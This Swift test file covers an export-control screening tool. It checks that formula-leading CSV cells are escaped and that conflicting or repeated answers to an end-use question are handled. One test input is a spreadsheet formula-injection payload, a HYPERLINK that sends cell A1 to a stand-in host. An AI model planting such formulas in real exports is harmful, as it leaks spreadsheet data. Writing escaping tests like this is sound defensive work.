@testable import ExportalCore
import Foundation
import Testing

/// What `screen` writes for a spreadsheet, and what `determine` accepts as answers.
@Suite struct CommandInputTests {
    /// A cell that starts with = + - @ (or tab, CR) is a formula to a spreadsheet: `=HYPERLINK(...)`
    /// as a screened name ran when the CSV was opened. Such cells start with an apostrophe.
    @Test func screenCSVEscapesFormulas() throws {
        let site = try FixtureSite(ScreeningSite.files)
        let content = site.root.appendingPathComponent("Content").path
        let names = [#"=HYPERLINK("http://example.invalid/?"&A1,"Open")"#, "+1+2", "-2+3", "@SUM(A1)", "\tTab", "Plain, Name", "＝1+1"]
        let csv = try #require(Screener.run(ScreenRequest(content: content, names: names, format: "csv")).output)
        #expect(csv.contains(#""'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",,"#), "\(csv)")
        #expect(csv.contains("\"'+1+2\",,") && csv.contains("\"'-2+3\",,") && csv.contains("\"'@SUM(A1)\",,"), "\(csv)")
        #expect(csv.contains("\"'\tTab\",,") && csv.contains("\"Plain, Name\",,") && csv.contains("\"'＝1+1\",,"), "\(csv)")
        #expect(csv.split(separator: "\n").count == names.count + 1)

        // Every text cell is escaped, matched names and explanations too.
        #expect(ScreenCSV.cell("-0-") == "\"'-0-\"" && ScreenCSV.cell("a\"b") == "\"a\"\"b\"" && ScreenCSV.cell("\rx") == "\"'\rx\"")
    }

    static let content = FixtureSite.repository.appendingPathComponent("Content").path

    @Test func contradictoryAnswersAreAnInputError() {
        let result = Determiner.run(DetermineRequest(content: Self.content, item: "5A002", destination: "JP",
                                                     answers: ["wmd-end-use=no", "wmd-end-use=yes"]))
        #expect(result.output == nil)
        #expect(result.diagnostics.map(\.description) == [
            "--answer:1:1: error: 'wmd-end-use' is answered both no and yes (give each question one answer)",
        ])
    }

    /// The same answer twice says nothing new: it is accepted, as one answer.
    @Test func aRepeatedAnswerIsAccepted() {
        let twice = Determiner.run(DetermineRequest(content: Self.content, item: "5A002", destination: "JP",
                                                    answers: ["wmd-end-use=yes", "wmd-end-use=yes"]))
        let once = Determiner.run(DetermineRequest(content: Self.content, item: "5A002", destination: "JP", answers: ["wmd-end-use=yes"]))
        #expect(twice.diagnostics.isEmpty && twice.output != nil && twice.output == once.output)
    }
}
